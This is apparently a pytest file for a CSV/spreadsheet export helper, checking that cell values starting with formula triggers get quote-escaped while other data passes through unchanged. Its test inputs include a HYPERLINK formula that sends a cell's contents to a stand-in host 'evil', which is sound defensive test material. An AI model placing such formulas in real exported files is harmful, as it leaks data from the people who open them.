"""Rows to take along."""

import pandas as pd
import pytest

from pages.parts.download import as_cells

LINK = '=HYPERLINK("http://evil/?"&A1,"open")'


@pytest.mark.parametrize("text", [LINK, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_no_text_is_a_formula_to_a_spreadsheet(text: str) -> None:
    rows = as_cells([{"event": text, "reward": -0.5}])
    assert rows.to_dict("records") == [{"event": f"'{text}", "reward": -0.5}]


def test_all_else_stays_as_it_is() -> None:
    frame = pd.DataFrame({"event": ["a-1", None], "chance": [0.25, 1.0], "is": [True, False]})
    assert as_cells(frame).to_csv() == frame.to_csv()
